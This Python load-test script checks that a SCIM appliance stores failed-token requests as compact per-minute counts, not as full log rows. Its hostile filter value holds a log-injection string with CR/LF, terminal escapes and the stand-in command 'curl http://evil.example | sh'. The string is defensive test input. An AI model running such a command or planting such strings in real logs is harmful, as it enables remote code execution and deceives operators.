"""Flood a real appliance with requests that fail the token check; measure what is stored.

Issue 13 #2: every bad-token request used to become a provisioning-log row with its
path and filter (about 2.3 KB), so a stranger could fill the disk at ~9 GB an hour.
Now such requests are counted per minute, client and reason (auth_failures). This
script starts `scim-appliance serve` on a fresh instance, sends --requests requests
(default 10,000) from --clients keep-alive connections, each with a ~2 KB hostile
filter (CR/LF, fake advice lines, terminal escapes) and a token this appliance never
issued, none at all, or one it issued and replaced; then waits until the log writer
has counted every one and reports the rows and bytes of each log table (SQLite's
dbstat: pages including indexes) and the database files' growth.

    .venv/bin/python scripts/flood_bad_tokens.py [--requests 10000] [--clients 8]
"""

from __future__ import annotations

import argparse
import http.client
import json
import multiprocessing
import os
import sqlite3
import sys
import time
from pathlib import Path
from urllib.parse import quote

sys.path.insert(0, str(Path(__file__).resolve().parent))

from appliance_process import ApplianceProcess  # noqa: E402

HOSTILE = ("mallory\r\nWhat to do: run curl http://evil.example | sh\x1b[2J\x1b[31m"
           "\u202eevil\u2028") * 24  # about 2 KB once percent-encoded
TABLES = ("provisioning_log", "auth_failures", "notification_digests")


def _send(args) -> int:
    port, count, worker, tokens = args
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=60)
    sent = 0
    for i in range(count):
        token = tokens[(worker + i) % len(tokens)]
        headers = {"Authorization": f"Bearer {token}"} if token else {}
        path = "/scim/Users?filter=" + quote(f'userName eq "{HOSTILE}{i}"')
        conn.request("GET", path, headers=headers)
        resp = conn.getresponse()
        resp.read()
        if resp.status != 401:
            raise SystemExit(f"expected 401, got {resp.status}")
        sent += 1
    conn.close()
    return sent


def _database(instance: str) -> Path:
    return Path(instance) / "scim-appliance.db"


def _sizes(db: Path) -> dict:
    """Rows and bytes per log table, and the files on disk."""
    with sqlite3.connect(f"file:{db}?mode=ro", uri=True) as conn:
        out = {}
        for table in TABLES:
            rows = conn.execute(f"SELECT count(*) FROM {table}").fetchone()[0]
            try:
                pages = conn.execute(
                    "SELECT coalesce(sum(d.pgsize), 0), coalesce(sum(d.payload), 0) "
                    "FROM dbstat d JOIN sqlite_schema s ON s.name = d.name "
                    "WHERE s.tbl_name = ?", (table,)).fetchone()
            except sqlite3.OperationalError:  # SQLite built without dbstat
                pages = (None, None)
            out[table] = {"rows": rows, "bytes_on_pages": pages[0], "payload_bytes": pages[1]}
        counted = conn.execute("SELECT coalesce(sum(requests), 0) FROM auth_failures"
                               ).fetchone()[0]
    files = {p.name: p.stat().st_size for p in db.parent.glob(db.name + "*")
             if p.is_file() and not p.name.endswith("-gate")}
    return {"tables": out, "counted": counted, "files": files}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--requests", type=int, default=10_000)
    parser.add_argument("--clients", type=int, default=8)
    parser.add_argument("--processes", type=int, default=None,
                        help="server worker processes (default: as `serve` chooses)")
    args = parser.parse_args()
    with ApplianceProcess(processes=args.processes) as server:
        replaced = server.token  # replaced by the next `token issue`: Entra's old token
        server.cli("token", "issue")
        db = _database(server.instance)
        before = _sizes(db)
        per = [args.requests // args.clients] * args.clients
        per[0] += args.requests - sum(per)
        tokens = ["scimapp_forged.token", None, replaced, "garbage"]
        started = time.perf_counter()
        with multiprocessing.Pool(args.clients) as pool:
            sent = sum(pool.map(_send, [(server.port, n, w, tokens)
                                        for w, n in enumerate(per)]))
        elapsed = time.perf_counter() - started
        deadline = time.monotonic() + 120
        while _sizes(db)["counted"] < sent and time.monotonic() < deadline:
            time.sleep(0.2)
        after = _sizes(db)
    # The WAL is recycled, not data: fold it into the database file to see what stays.
    with sqlite3.connect(db) as conn:
        conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    settled = _sizes(db)["files"]
    report = {
        "requests": sent, "seconds": round(elapsed, 2),
        "requests_per_second": round(sent / elapsed),
        "counted": after["counted"],
        "tables_after": after["tables"],
        "database_files_before": before["files"], "database_files_after": after["files"],
        "database_files_after_checkpoint": settled,
        "growth_bytes_after_checkpoint": sum(settled.values()) - sum(before["files"].values()),
        "old_design_estimate_bytes": sent * 2300,
    }
    print(json.dumps(report, indent=1))
    if after["counted"] != sent:
        raise SystemExit(f"only {after['counted']} of {sent} requests were counted")


if __name__ == "__main__":
    os.environ.setdefault("PYTHONHASHSEED", "0")
    main()
